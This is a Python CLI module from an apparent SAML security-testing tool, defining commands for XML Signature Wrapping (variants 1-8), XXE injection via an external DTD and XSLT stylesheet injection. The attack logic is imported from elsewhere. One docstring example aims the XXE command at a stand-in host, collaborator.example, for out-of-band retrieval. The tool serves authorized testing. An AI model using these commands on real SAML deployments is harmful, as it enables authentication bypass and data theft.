"""Attack CLI commands: XML Signature Wrapping and injections.

WARNING: These commands are intended for authorized security testing only.
"""

from __future__ import annotations

from pathlib import Path

import click

from samlraider.cli.common import (
    get_config,
    get_service,
    input_argument,
    output_option,
    read_input,
    unwrap,
    write_output,
)
from samlraider.core.saml.attacks import XSW_DESCRIPTIONS


@click.command()
@click.argument("variant", type=int, required=False)
@input_argument
@click.option("--list", "list_variants", is_flag=True, help="List the XSW variants and exit")
@output_option
@click.pass_context
def xsw(
    ctx: click.Context,
    variant: int | None,
    input_path: Path,
    list_variants: bool,
    output_path: Path | None,
) -> None:
    """Apply an XML Signature Wrapping variant (1-8) to a decoded SAML message.

    The attacked document carries the marker IDs _evil_response_ID or
    _evil_assertion_ID and an "evil-" prefixed NameID.

    Examples:

        # Show the catalog
        samlraider xsw --list

        # Wrap the assertion of a decoded response
        samlraider xsw 3 response.xml -o attacked.xml
    """
    if list_variants:
        for number, description in XSW_DESCRIPTIONS.items():
            click.echo(f"XSW{int(number)}: {description}")
        return

    if variant is None:
        raise click.UsageError("Missing argument 'VARIANT'. Use --list to see the variants.")

    xml = read_input(input_path)
    write_output(unwrap(get_service(ctx).apply_xsw(xml, variant)), output_path)


@click.command()
@input_argument
@click.option("--url", "server_url", help="External DTD URL (default from configuration)")
@output_option
@click.pass_context
def xxe(ctx: click.Context, input_path: Path, server_url: str | None, output_path: Path | None) -> None:
    """Inject an external parameter-entity DOCTYPE pointing at a DTD URL.

    The URL is used verbatim.

    Examples:

        samlraider xxe response.xml --url http://collaborator.example/x.dtd
    """
    xml = read_input(input_path)
    url = server_url or get_config(ctx).attacks.xxe_server_url
    write_output(unwrap(get_service(ctx).apply_xxe(xml, url)), output_path)


@click.command()
@input_argument
@click.option("--payload", help="XSLT stylesheet to embed (default from configuration)")
@click.option(
    "--payload-file",
    type=click.Path(exists=True, dir_okay=False, path_type=Path),  # type: ignore[type-var]
    help="Read the XSLT stylesheet from a file",
)
@output_option
@click.pass_context
def xslt(
    ctx: click.Context,
    input_path: Path,
    payload: str | None,
    payload_file: Path | None,
    output_path: Path | None,
) -> None:
    """Inject an xml-stylesheet instruction carrying a base64 data: URI.

    Examples:

        samlraider xslt response.xml --payload-file transform.xsl
    """
    if payload_file is not None:
        payload = payload_file.read_text(encoding="utf-8")
    xml = read_input(input_path)
    stylesheet = payload if payload is not None else get_config(ctx).attacks.xslt_payload
    write_output(unwrap(get_service(ctx).apply_xslt(xml, stylesheet)), output_path)
